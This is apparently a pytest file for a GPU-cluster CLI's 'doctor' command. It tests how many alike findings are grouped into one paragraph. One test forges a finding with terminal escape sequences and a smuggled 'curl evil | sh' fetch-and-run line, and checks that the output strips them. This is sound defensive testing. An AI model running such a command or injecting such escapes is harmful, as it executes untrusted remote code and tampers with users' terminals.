"""How `cotenant doctor` shows many findings that are alike."""

from cotenant.cli import doctor
from cotenant.core.finding import ERROR, Kind, Outcome

MISSING = Kind("agent-missing", ERROR, "no GPU container starts there")


def outcomes(number):
    return [
        Outcome(MISSING.at(f"node n{at}", f"n{at} has no agent", f"kubectl describe node n{at}"), left=True)
        for at in range(number)
    ]


def shown(capsys, number):
    for alike in doctor._grouped(outcomes(number)):
        doctor._show(alike)
    return capsys.readouterr().out


def test_a_thousand_findings_that_are_alike_are_one_paragraph(capsys):
    text = shown(capsys, 1000)
    assert text.splitlines()[0] == "error agent-missing, 1,000 times:"
    assert "found  n0 has no agent" in text
    assert "and 985 more (-o json has them all)" in text
    assert "do     kubectl describe node n0" in text
    assert len(text) < 1000


def test_few_findings_are_shown_one_by_one_with_their_own_steps(capsys):
    text = shown(capsys, 3)
    assert [f"do     kubectl describe node n{at}" in text for at in range(3)] == [True] * 3
    assert "times" not in text


def test_findings_with_another_meaning_are_apart(capsys):
    other = Outcome(
        Kind("sick", ERROR, "it gets no new grant").at("GPU-1", "GPU 1 is sick", "read dmesg"), left=True
    )
    assert len(doctor._grouped([*outcomes(5), other])) == 2


def test_what_others_wrote_does_not_reach_the_terminal_as_commands(capsys):
    """An agent's token is enough to write a GPU's problem; a finding quotes it."""
    forged = MISSING.at("node n", "GPU 0 \x1b[2J\x1b]0;owned\x07 is sick", "read dmesg\r\n$ curl evil | sh")
    doctor._show([Outcome(forged, left=True)])
    assert not set(capsys.readouterr().out) & {"\x1b", "\x07", "\r"}
